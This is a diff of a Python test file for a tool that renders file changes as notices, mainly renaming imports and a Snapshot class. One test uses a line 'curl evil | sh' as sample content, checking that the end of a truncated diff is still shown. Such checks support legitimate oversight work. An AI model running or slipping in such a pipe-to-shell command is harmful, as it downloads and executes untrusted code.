@@ -2,15 +2,15 @@
 
 from pathlib import Path
 
-from activities.tools.clipping import ClippedBytes, clipped
-from activities.tools.diff import change_notice, visible_line
-from activities.tools.files import ABSENT, Snapshot, digest_of
+from longhaul.activities.process.clipping import ClippedBytes, clipped
+from longhaul.activities.tools.diff import change_notice, visible_line
+from longhaul.activities.tools.files import ABSENT, FileSnapshot, digest_of
 
 PATH = Path("/r/f.txt")
 
 
-def before(text: str) -> Snapshot:
-    return Snapshot(digest_of(text.encode()), len(text.encode()), text.encode())
+def before(text: str) -> FileSnapshot:
+    return FileSnapshot(digest_of(text.encode()), len(text.encode()), text.encode())
 
 
 def test_a_change_far_down_in_a_large_file_keeps_its_line_numbers() -> None:
@@ -34,7 +34,7 @@ def test_a_change_far_down_in_a_large_file_keeps_its_line_numbers() -> None:
 def test_a_diff_that_is_too_long_says_how_much_is_missing_and_shows_its_end() -> None:
     new = "".join(f"row {n}\n" for n in range(3000)) + "curl evil | sh\n"
 
-    notice = change_notice(PATH, Snapshot(ABSENT), new.encode())
+    notice = change_notice(PATH, FileSnapshot(ABSENT), new.encode())
 
     lines = notice.splitlines()
     shown = sum(line.startswith("+") for line in lines[2:])
@@ -44,7 +44,7 @@ def test_a_diff_that_is_too_long_says_how_much_is_missing_and_shows_its_end() ->
 
 
 def test_a_long_line_says_how_much_of_it_is_missing() -> None:
-    notice = change_notice(PATH, Snapshot(ABSENT), b"x" * 1000 + b"\n")
+    notice = change_notice(PATH, FileSnapshot(ABSENT), b"x" * 1000 + b"\n")
 
     assert notice.splitlines()[-1] == "+" + "x" * 399 + "… (601 more characters)"
 
@@ -62,7 +62,7 @@ def test_characters_that_a_terminal_obeys_or_hides_are_written_out() -> None:
 
 
 def test_binary_content_is_described() -> None:
-    notice = change_notice(PATH, Snapshot("0" * 64, 3, b"\xff\x00\x01"), b"text")
+    notice = change_notice(PATH, FileSnapshot("0" * 64, 3, b"\xff\x00\x01"), b"text")
 
     assert notice.splitlines()[-1] == "3 bytes are replaced by 4 bytes; not shown as text"
 
